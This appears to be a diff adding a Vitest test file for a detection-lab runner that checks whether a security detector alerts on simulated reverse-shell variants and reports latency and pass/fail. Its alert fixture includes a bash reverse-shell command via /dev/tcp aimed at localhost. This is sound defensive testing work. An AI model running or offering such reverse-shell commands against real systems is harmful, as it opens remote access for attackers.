@@ -1,0 +1,156 @@
+/**
+ * The self-test runner with a fake detector and fake simulations: correlation by marker,
+ * expectations, the storm phase, latency, and the exit decision. The real simulations are
+ * tested in simulation.test.ts, the real pipeline in lab-live.test.ts.
+ */
+import { describe, expect, it } from 'vitest';
+import { type LabDetector, type LabOptions, runLab } from '../../src/lab/run-lab.js';
+import { formatLabTable } from '../../src/lab/report-table.js';
+import type { SimulationResult } from '../../src/lab/simulation.js';
+import { SEED_RULE_ID, type LabVariant } from '../../src/lab/variants.js';
+
+type Emit = (alert: Record<string, unknown>, observedAtMs: number) => void;
+
+class FakeDetector implements LabDetector {
+  started = 0;
+  stopped = 0;
+  private listener: Emit = () => {};
+  async start(): Promise<void> {
+    this.started += 1;
+  }
+  async stop(): Promise<void> {
+    this.stopped += 1;
+  }
+  onAlert(listener: Emit): void {
+    this.listener = listener;
+  }
+  emit(alert: Record<string, unknown>, observedAtMs: number): void {
+    this.listener(alert, observedAtMs);
+  }
+}
+
+function seedAlert(marker: string, eventTime: number, ruleId = SEED_RULE_ID): Record<string, unknown> {
+  return {
+    '@timestamp': new Date(eventTime + 50).toISOString(),
+    rule: { id: ruleId, name: 'Potential Reverse Shell via Background Process' },
+    process: { name: 'setsid', args: ['setsid', 'bash', '-c', `bash -i >& /dev/tcp/127.0.0.1/1 0>&1 #${marker}`] },
+    kibana: { alert: { original_time: new Date(eventTime).toISOString() } },
+  };
+}
+
+/**
+ * Fake simulations: every variant "runs"; `alertFor` decides which alert (if any) the fake
+ * detector reports for it, by default the truth (an alert exactly when one is expected).
+ */
+function scenario(detector: FakeDetector, alertFor?: (v: LabVariant, marker: string) => Record<string, unknown> | null) {
+  const launches: string[][] = [];
+  const simulate = async (variants: LabVariant[]): Promise<SimulationResult[]> => {
+    launches.push(variants.map((v) => v.name));
+    return variants.map((v, i) => {
+      const marker = `m-${launches.length}-${i}-${v.name}`;
+      const launchedAtMs = 1_000_000 + i * 1000;
+      const alert = alertFor ? alertFor(v, marker) : v.expectAlert ? seedAlert(marker, launchedAtMs + 2) : null;
+      if (alert) detector.emit(alert, launchedAtMs + 9);
+      return { variant: v.name, status: 'ran', marker, port: 1, launchedAtMs, connections: v.connects ? 1 : 0, exitCode: 0, leftovers: 0 };
+    });
+  };
+  return { simulate, launches };
+}
+
+const fast = { alertWaitMs: 200, settleMs: 0 } satisfies Partial<LabOptions>;
+const names = ['bash-setsid', 'bash-nohup', 'benign-no-dev-tcp', 'benign-node-parent'];
+
+describe('runLab', () => {
+  it('passes when each variant gets exactly the alerts it expects, and reports rule and latency', async () => {
+    const detector = new FakeDetector();
+    const { simulate } = scenario(detector);
+    const report = await runLab({ detector, storm: false, variants: names, simulate, ...fast });
+    expect(report.passed).toBe(true);
+    expect(report.counts).toEqual({ pass: 4, fail: 0, skipped: 0 });
+    const setsid = report.rows.find((r) => r.variant === 'bash-setsid')!;
+    expect(setsid).toMatchObject({ expected: true, observed: true, rule: SEED_RULE_ID, latencyMs: 7, latencyFrom: 'event', status: 'pass' });
+    expect(report.rows.find((r) => r.variant === 'benign-node-parent')).toMatchObject({ expected: false, observed: false, rule: null, status: 'pass' });
+    expect(detector.started).toBe(1);
+    expect(detector.stopped).toBe(1);
+  });
+
+  it('fails a missed reverse shell and a false positive, naming both', async () => {
+    const detector = new FakeDetector();
+    const { simulate } = scenario(detector, (v, marker) => (v.name === 'bash-setsid' ? null : seedAlert(marker, 1)));
+    const report = await runLab({ detector, storm: false, variants: names, simulate, ...fast });
+    expect(report.passed).toBe(false);
+    expect(report.rows.find((r) => r.variant === 'bash-setsid')).toMatchObject({ observed: false, status: 'fail', reason: 'no alert' });
+    expect(report.rows.find((r) => r.variant === 'benign-no-dev-tcp')).toMatchObject({
+      observed: true,
+      status: 'fail',
+      reason: `unexpected alert from rule ${SEED_RULE_ID}`,
+    });
+  });
+
+  it('fails an alert from another rule than the expected one', async () => {
+    const detector = new FakeDetector();
+    const { simulate } = scenario(detector, (v, marker) => (v.expectAlert ? seedAlert(marker, 1, 'other-rule') : null));
+    const report = await runLab({ detector, storm: false, variants: ['bash-setsid'], simulate, ...fast });
+    expect(report.rows[0]).toMatchObject({ status: 'fail', reason: `expected rule ${SEED_RULE_ID}, got other-rule` });
+  });
+
+  it('measures from the launch when the alert does not carry the event time', async () => {
+    const detector = new FakeDetector();
+    const { simulate } = scenario(detector, (v, marker) => ({ rule: { id: SEED_RULE_ID }, process: { command_line: `x #${marker}` } }));
+    const report = await runLab({ detector, storm: false, variants: ['bash-setsid'], simulate, ...fast });
+    expect(report.rows[0]).toMatchObject({ status: 'pass', latencyMs: 9, latencyFrom: 'launch' });
+  });
+
+  it('repeats every variant under the storm, stopping the storm afterwards', async () => {
+    const detector = new FakeDetector();
+    const { simulate, launches } = scenario(detector);
+    let storms = 0;
+    let stops = 0;
+    const startStorm = () => {
+      storms += 1;
+      return { marker: "storm", stop: () => void (stops += 1) };
+    };
+    const report = await runLab({ detector, storm: true, variants: names, simulate, startStorm, ...fast });
+    expect(launches).toEqual([names, names]);
+    expect(storms).toBe(1);
+    expect(stops).toBe(1);
+    expect(report.rows.map((r) => r.phase)).toEqual(['calm', 'calm', 'calm', 'calm', 'storm', 'storm', 'storm', 'storm']);
+    expect(report.passed).toBe(true);
+    // Markers differ between phases, so a calm alert cannot pass a storm row.
+    expect(report.rows.every((r) => r.status === 'pass')).toBe(true);
+  });
+
+  it('counts skipped variants apart and alerts from other activity as unattributed', async () => {
+    const detector = new FakeDetector();
+    const simulate = async (variants: LabVariant[]): Promise<SimulationResult[]> => {
+      detector.emit(seedAlert('someone-else', 1), 2);
+      return variants.map((v) => ({ variant: v.name, status: 'skipped', skipReason: 'zsh not installed', marker: `m-${v.name}`, port: 0, launchedAtMs: 0, connections: 0, exitCode: null, leftovers: 0 }));
+    };
+    const report = await runLab({ detector, storm: false, variants: ['zsh-setsid'], simulate, ...fast });
+    expect(report.rows[0]).toMatchObject({ status: 'skipped', observed: null, reason: 'zsh not installed' });
+    expect(report.passed).toBe(true);
+    expect(report.unattributedAlerts).toBe(1);
+  });
+
+  it('stops the detector even when a simulation throws', async () => {
+    const detector = new FakeDetector();
+    const simulate = async (): Promise<SimulationResult[]> => {
+      throw new Error('boom');
+    };
+    await expect(runLab({ detector, storm: false, variants: ['bash-setsid'], simulate, ...fast })).rejects.toThrow('boom');
+    expect(detector.stopped).toBe(1);
+  });
+});
+
+describe('formatLabTable', () => {
+  it('prints one line per row and a verdict line', async () => {
+    const detector = new FakeDetector();
+    const { simulate } = scenario(detector);
+    const report = await runLab({ detector, storm: false, variants: names, simulate, ...fast });
+    const text = formatLabTable(report);
+    expect(text.split('\n')[0]).toMatch(/^variant\s+expected\s+observed\s+rule\s+latency\s+result$/);
+    expect(text).toMatch(/bash-setsid\s+alert\s+alert\s+Potential Reverse Shell via Background Process \(259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39\)\s+7\.0 ms\s+PASS/);
+    expect(text).toMatch(/benign-no-dev-tcp\s+none\s+none\s+-\s+-\s+PASS/);
+    expect(text.trimEnd().split('\n').at(-1)).toBe('PASS: 4 passed, 0 failed, 0 skipped');
+  });
+});
